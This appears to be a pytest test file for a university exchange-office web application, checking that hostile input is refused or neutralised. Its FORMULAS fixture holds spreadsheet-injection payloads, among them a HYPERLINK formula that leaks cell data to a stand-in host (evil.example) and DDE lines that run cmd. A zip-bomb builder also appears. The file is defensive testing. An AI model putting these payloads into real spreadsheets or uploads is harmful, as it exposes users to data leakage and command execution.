"""Hostile and careless input (issue 14): exports carry no formulas, bodies are capped before
anything parses them, and no input makes a 5xx — each refusal is a 4xx naming the field, in
the caller's language."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import zipfile
from collections.abc import Iterator
from datetime import date

import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from sapar.services import exports
from states.model import CaseKind
from storage.orm import PartnerRow
from storage.uow import UnitOfWork
from tests.builders import a_case, a_student
from tests.integration.office import ANKARA, Office, student_case
from tests.integration.web_client import log_in

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]  # fmt: skip
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def browser(sqlite_office: Office) -> TestClient:
    return TestClient(sqlite_office.client.app)


def no_formula_cells(content: bytes) -> list[str]:
    """Every text cell's value of a workbook, after checking none of them is a formula."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), f"a formula in {name}"
    book = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


# --- 1. exports ------------------------------------------------------------------------------


def test_every_cell_that_a_spreadsheet_would_evaluate_is_neutralised() -> None:
    for value in [*FORMULAS, "\tTAB", "\rCR"]:
        assert exports.safe_cell(value) == "'" + value
        assert exports.unquote_cell(exports.safe_cell(value)) == value
    assert exports.safe_cell("Ankara Üniversitesi") == "Ankara Üniversitesi"
    assert exports.safe_cell(-3) == -3  # numbers the exporter means stay numbers


def test_the_case_export_carries_no_formula(sqlite_office: Office, browser: TestClient) -> None:
    # The country is picked from ISO 3166 now (a formula there is refused as no country).
    name, host, _, programme = FORMULAS
    sqlite_office.open("dean_econ", student_case(
        participant={"full_name": name}, host_institution=host, host_country="TR",
        programme=programme, partner_id=None, basis="individual_invitation"))  # fmt: skip
    log_in(browser, "iro")
    text = browser.get("/cases/export.csv").content.decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["full_name"] == "'" + name and row["host"] == "'" + host
    assert row["programme"] == "'" + programme


def test_the_partner_exports_carry_no_formula_and_import_back_as_they_were(
    sqlite_office: Office, browser: TestClient
) -> None:
    csrf = log_in(browser, "iro")
    name, city, phones, emails = FORMULAS
    saved = browser.post("/partners/new", data={"csrf": csrf, "name": name, "country": "Türkiye",
                                                "city": city, "phones": phones,
                                                "emails": emails})  # fmt: skip
    assert saved.status_code == 200, saved.text[:300]
    exported = browser.get("/partners/export.csv").content
    rows = list(csv.DictReader(io.StringIO(exported.decode("utf-8-sig"))))
    ours = next(r for r in rows if r["city"].startswith("'"))
    assert ours["name"] == "'" + name and ours["phones"] == "'" + phones
    texts = no_formula_cells(browser.get("/partners/export.xlsx").content)
    assert name in texts and phones in texts  # text cells, kept as typed
    # The CSV read back changes nothing: the quote marks are taken off again.
    again = browser.post("/partners/import", data={"csrf": csrf},
                         files={"file": ("partners.csv", exported, "text/csv")})  # fmt: skip
    assert 'data-status="done"' in again.text
    with UnitOfWork(sqlite_office.engine, read_only=True) as uow:
        cities = list(uow.session.scalars(select(PartnerRow.city).where(PartnerRow.name == name)))
    assert cities == [city]  # the same partner, not a second one with a quote mark


def test_the_avn_export_carries_no_formula(sqlite_office: Office, browser: TestClient) -> None:
    case_id = sqlite_office.open("dean_econ", student_case())
    csrf = log_in(browser, "dean_econ")
    transcript = {"csrf": csrf, "host_course": [FORMULAS[0]], "credits": ["6"],
                  "host_grade": ["B"], "host_scale": ["ects"], "home_course": [FORMULAS[3]],
                  "refusal_reason": [""]}  # fmt: skip
    saved = browser.post(f"/cases/{case_id}/transcript", data=transcript, follow_redirects=False)
    assert saved.status_code == 303
    text = browser.get(f"/cases/{case_id}/avn.csv").content.decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["host_course"] == "'" + FORMULAS[0] and row["home_course"] == "'" + FORMULAS[3]


def test_the_statistics_workbook_carries_no_formula(
    sqlite_office: Office, browser: TestClient
) -> None:
    with UnitOfWork(sqlite_office.engine) as uow:
        uow.cases.add(
            a_case(
                a_student(),
                state="ordered",
                host_country=FORMULAS[0],
                programme=FORMULAS[1],
                start_date=date(2026, 10, 1),
                end_date=date(2027, 1, 31),
                kind=CaseKind.outgoing_student_long,
            )
        )
        uow.commit()  # fmt: skip
    log_in(browser, "auditor")
    texts = no_formula_cells(browser.get("/statistics/export.xlsx?year=2026-2027").content)
    assert FORMULAS[0] in texts


# --- 2. limits -------------------------------------------------------------------------------


def test_an_oversized_body_is_refused_before_the_login_is_even_checked(
    sqlite_office: Office,
) -> None:
    anonymous = TestClient(sqlite_office.client.app)
    body = json.dumps({"participant": {"full_name": "x" * (2 * 1024 * 1024)}})
    answer = anonymous.post("/api/cases", content=body, headers={
        "Content-Type": "application/json", "Accept-Language": "en"})  # fmt: skip
    assert answer.status_code == 413  # not 401: refused before the token was looked at
    assert answer.json() == {
        "detail": "body: The request is too large: at most 1 MB",
        "errors": [{"field": "body", "message": "The request is too large: at most 1 MB"}],
    }


def test_a_body_streamed_without_its_length_is_cut_off_at_the_limit(
    sqlite_office: Office,
) -> None:
    def chunks() -> Iterator[bytes]:
        yield b'{"participant": {"full_name": "'
        for _ in range(40):
            yield b"x" * 65536

    answer = sqlite_office.client.post("/api/cases", content=chunks(), headers={
        **sqlite_office.auth("dean_econ"), "Content-Type": "application/json",
        "Accept-Language": "ru"})  # fmt: skip
    assert answer.status_code == 413 and "не более 1 МБ" in answer.json()["detail"]


def test_an_oversized_form_is_refused_with_a_page_in_the_users_language(
    sqlite_office: Office,
) -> None:
    anonymous = TestClient(sqlite_office.client.app)
    answer = anonymous.post("/login?lang=ru", data={"username": "x" * (1024 * 1024 + 1)})
    assert answer.status_code == 413 and "Запрос слишком велик" in answer.text
    assert answer.headers["x-content-type-options"] == "nosniff"


def test_a_case_carries_no_free_form_map(sqlite_office: Office) -> None:
    """The old free-form `details` map (10 MB stored and returned on every read) is gone:
    a case has named, bounded fields only, and anything else is refused."""
    many = {f"k{i}": "v" * 1000 for i in range(30)}
    answer = sqlite_office.post("dean_econ", "/api/cases", json=student_case(details=many),
                                headers={"Accept-Language": "en"})  # fmt: skip
    assert answer.status_code == 422
    assert answer.json()["errors"] == [
        {"field": "details", "label": "Details", "message": "No such field"}
    ]
    long = student_case(host_language="x" * 61)
    answer = sqlite_office.post("dean_econ", "/api/cases", json=long)
    assert answer.status_code == 422 and answer.json()["errors"][0]["field"] == "host_language"


def test_the_partner_registry_is_paged(sqlite_office: Office, browser: TestClient) -> None:
    with UnitOfWork(sqlite_office.engine) as uow:
        from sapar.services.partners import PartnerIn, add_partner

        for i in range(120):
            add_partner(uow.session, PartnerIn(name=f"Университет {i:03d}", country="Казакстан"))
        uow.commit()
    log_in(browser, "dean_econ")
    first = browser.get("/partners").text
    assert first.count('class="edit-row"') == 0 and "page=2" in first
    assert "Университет 119" not in first
    second = browser.get("/partners?page=2").text
    assert "Университет 119" in second and "page=3" not in second
    assert browser.get("/partners?page=0").status_code == 422
    assert browser.get("/partners?page=99999999999999999999999").status_code == 422


# --- 4. no 5xx from input ----------------------------------------------------------------------


def test_an_id_above_64_bits_is_a_422_naming_it(sqlite_office: Office, browser: TestClient) -> None:
    huge = "99999999999999999999"
    answer = sqlite_office.get("iro", f"/api/cases/{huge}", headers={"Accept-Language": "en"})
    assert answer.status_code == 422 and answer.json()["errors"][0]["field"] == "case_id"
    log_in(browser, "iro")
    assert browser.get(f"/cases/{huge}").status_code == 422
    assert browser.get(f"/cases/1/documents/{huge}").status_code == 422
    assert sqlite_office.get("iro", f"/api/cases?after={huge}").status_code == 422


def test_an_unknown_partner_is_refused_naming_it_in_the_callers_language(
    sqlite_office: Office,
) -> None:
    body = student_case(partner_id=987654)
    for lang, words in (("ky", "өнөктөш жок"), ("ru", "нет партнёра"), ("en", "no partner")):
        answer = sqlite_office.post("dean_econ", "/api/cases", json=body,
                                    headers={"Accept-Language": lang})  # fmt: skip
        assert answer.status_code == 422, answer.text
        [error] = answer.json()["errors"]
        assert error["field"] == "partner_id" and words in error["message"]
    assert sqlite_office.get("iro", "/api/cases").json()["cases"] == []


def test_nan_and_infinity_are_not_numbers(sqlite_office: Office, browser: TestClient) -> None:
    for raw in ("NaN", "Infinity", "-Infinity"):
        text = json.dumps(student_case()).replace('"gpa": 3.6', f'"gpa": {raw}')
        answer = sqlite_office.post("dean_econ", "/api/cases", content=text, headers={
            "Content-Type": "application/json", "Accept-Language": "en"})  # fmt: skip
        assert answer.status_code == 422, answer.text
        assert answer.json()["errors"][0]["field"] == "participant.gpa"
    case_id = sqlite_office.open("dean_econ", student_case())
    csrf = log_in(browser, "dean_econ")
    for credits in ("NaN", "inf", "1e309"):
        plan = {"csrf": csrf, "title": ["Corporate Finance"], "credits": [credits]}
        answer = browser.post(f"/cases/{case_id}/study-plan", data=plan)
        assert answer.status_code == 400
        assert "1-сап: кредит оң сан болушу керек" in html.unescape(answer.text)


def test_superscript_and_foreign_digits_are_refused_as_numbers(
    sqlite_office: Office, browser: TestClient
) -> None:
    participant = {**student_case()["participant"], "year": "²"}
    answer = sqlite_office.post("dean_econ", "/api/cases", json=student_case(
        participant=participant), headers={"Accept-Language": "en"})  # fmt: skip
    assert answer.status_code == 422
    assert answer.json()["errors"][0]["field"] == "participant.year"
    csrf = log_in(browser, "iro")
    quota = {"csrf": csrf, "academic_year": "2026-2027", "participant_type": "student_outgoing",
             "places": "²"}  # fmt: skip
    answer = browser.post(f"/partners/{ANKARA}/quotas", data=quota)
    assert answer.status_code == 400 and "places" in answer.text
    superscript_year = {**quota, "academic_year": "²⁰²⁶-²⁰²⁷", "places": "3"}
    answer = browser.post(f"/partners/{ANKARA}/quotas", data=superscript_year)
    assert answer.status_code == 400 and "academic_year" in answer.text
    case_id = sqlite_office.open("dean_econ", student_case())
    answer = browser.post(f"/cases/{case_id}/outbox/retry", data={"csrf": csrf, "outbox_id": "³"})
    assert answer.status_code == 422 and "outbox_id" in answer.text
    assert browser.get("/statistics?year=²⁰²⁶-²⁰²⁷").status_code == 200  # ignored, not a crash


def test_huge_pages_are_refused_naming_the_limit(sqlite_office: Office) -> None:
    answer = sqlite_office.get("iro", "/api/cases?limit=1000000", headers={"Accept-Language": "en"})
    assert answer.status_code == 422
    assert answer.json()["errors"] == [
        {"field": "limit", "label": "Rows", "message": "A number of at most 200"}
    ]


@pytest.mark.parametrize(
    ("filename", "content", "words"),
    [
        ("partners.xlsx", b"PK\x03\x04 not really a zip", "cannot be read"),
        ("partners.xlsx", b"\x00" * 100, "cannot be read"),
        ("partners.csv", b"name,country\n\xff\xfe broken,X\n", "not UTF-8"),
        ("partners.csv", b"name,country\nA\x00B,Kyrgyzstan\n", "control characters"),
        ("partners.csv", b"name,country\n" + b"x" * 200_000 + b",Kyrgyzstan\n", "line 2"),
        ("partners.exe", b"MZ", "neither a .csv nor an .xlsx"),
    ],
)
def test_a_malformed_import_is_refused_in_plain_words(
    sqlite_office: Office, browser: TestClient, filename: str, content: bytes, words: str
) -> None:
    csrf = log_in(browser, "admin")
    browser.post("/language", data={"csrf": csrf, "language": "en", "next": "/partners"})
    upload = {"file": (filename, content, "application/octet-stream")}
    answer = browser.post("/partners/import", data={"csrf": csrf}, files=upload)
    assert answer.status_code in (200, 400), answer.text[:300]
    assert words in answer.text and "internal error" not in answer.text


def zip_bomb() -> bytes:
    """A valid-looking XLSX whose sheet inflates to 200 MB from a few hundred KB."""
    book = Workbook()
    plain = io.BytesIO()
    book.save(plain)
    out = io.BytesIO()
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            dst.writestr(item, src.read(item.filename))
        dst.writestr("xl/padding.xml", b" " * (200 * 1024 * 1024))
    return out.getvalue()


def test_an_xlsx_that_unpacks_to_gigabytes_is_refused_unread(
    sqlite_office: Office, browser: TestClient
) -> None:
    bomb = zip_bomb()
    assert len(bomb) < 1024 * 1024
    csrf = log_in(browser, "admin")
    browser.post("/language", data={"csrf": csrf, "language": "en", "next": "/partners"})
    answer = browser.post("/partners/import", data={"csrf": csrf},
                          files={"file": ("partners.xlsx", bomb, XLSX)})  # fmt: skip
    assert 'data-status="failed"' in answer.text and "unpacks to more than" in answer.text


def test_nul_and_control_characters_are_refused_on_every_database(office: Office) -> None:
    """On PostgreSQL a NUL would reach the driver and fail there (a 500): refused first."""
    body = student_case(participant={"full_name": "Айгерим\x00Жолдошбекова"})
    answer = office.post("dean_econ", "/api/cases", json=body, headers={"Accept-Language": "en"})
    assert answer.status_code == 422
    assert answer.json()["errors"] == [
        {
            "field": "participant.full_name",
            "label": "Full name",
            "message": "contains control characters (such as NUL)",
        }
    ]
    answer = office.get("iro", "/api/cases?q=%00", headers={"Accept-Language": "en"})
    assert answer.status_code == 422 and answer.json()["errors"][0]["field"] == "q"
    case_id = office.open("dean_econ", student_case())
    answer = office.fire("dean_econ", case_id, "withdraw", reason="no\x00thanks")
    assert answer.status_code == 422 and answer.json()["errors"][0]["field"] == "reason"
    browser = TestClient(office.client.app)
    csrf = log_in(browser, "iro")
    answer = browser.post("/partners/new", data={"csrf": csrf, "name": "A\x00B", "country": "TR"})
    assert answer.status_code == 400 and "name" in answer.text
    anonymous = TestClient(office.client.app)
    token = anonymous.get("/login").text.split('name="csrf" value="')[1].split('"')[0]
    answer = anonymous.post("/login", data={"username": "ir\x00o", "password": "whatever-1",
                                            "csrf": token})  # fmt: skip
    assert answer.status_code == 401


# --- 5. headers and the docs -------------------------------------------------------------------

SECURITY_HEADERS = ("content-security-policy", "x-content-type-options", "referrer-policy",
                    "x-frame-options")  # fmt: skip


def test_security_headers_are_on_every_answer(sqlite_office: Office, browser: TestClient) -> None:
    from tests.integration.test_api_permissions import every_route

    case_id = sqlite_office.open("dean_econ", student_case())
    log_in(browser, "admin")
    urls = ["/static/style.css", "/nowhere", "/api/nowhere", "/docs-assets/swagger-ui.css"]
    for path, methods in every_route(sqlite_office.client.app.routes):  # type: ignore[attr-defined]
        if "GET" in methods:
            urls.append(path.format(case_id=case_id, document_id=1, partner_id=ANKARA,
                                    job_id=1, token_id=1, username="iro",
                                    person_id=1))  # fmt: skip
    answers = [browser.get(url, follow_redirects=False) for url in urls]
    answers += [sqlite_office.get("iro", url) for url in urls if url.startswith("/api")]
    answers.append(browser.post("/login", content=b"x" * (2 * 1024 * 1024)))
    for answer in answers:
        assert answer.status_code < 500, answer.url
        for name in SECURITY_HEADERS:
            assert name in answer.headers, f"{answer.url} has no {name}"
        csp = answer.headers["content-security-policy"]
        assert "frame-ancestors 'none'" in csp and "unsafe-inline' 'self'" not in csp
        assert "script-src" not in csp or "script-src 'self';" in csp


def test_the_api_docs_load_nothing_from_elsewhere(sqlite_office: Office) -> None:
    anonymous = TestClient(sqlite_office.client.app)
    for page in ("/docs", "/redoc"):
        html = anonymous.get(page).text
        assert "http://" not in html and "https://" not in html
        for asset in re.findall(r'(?:src|href)="([^"]+)"', html):
            assert anonymous.get(asset).status_code == 200, asset
    csp = anonymous.get("/docs").headers["content-security-policy"]
    assert "script-src 'self';" in csp and "frame-ancestors 'none'" in csp


def test_the_openapi_documents_every_status_with_the_real_error_body(
    sqlite_office: Office,
) -> None:
    spec = sqlite_office.client.get("/openapi.json").json()
    problem = spec["components"]["schemas"]["ProblemOut"]
    assert set(problem["properties"]) == {"detail", "errors"}
    for path, operations in spec["paths"].items():
        for method, operation in operations.items():
            statuses = set(operation["responses"])
            assert {"401", "422"} <= statuses, f"{method} {path}"
            for status, answer in operation["responses"].items():
                if status.startswith("4"):
                    ref = answer["content"]["application/json"]["schema"]["$ref"]
                    assert ref.endswith("/ProblemOut"), f"{method} {path} {status}"
    history = spec["components"]["schemas"]["HistoryLine"]["properties"]["at"]
    assert history["format"] == "date-time"
    case_id = sqlite_office.open("dean_econ", student_case())
    [opened] = sqlite_office.get("iro", f"/api/cases/{case_id}/history").json()
    assert opened["at"].endswith(("+00:00", "Z"))  # with its zone
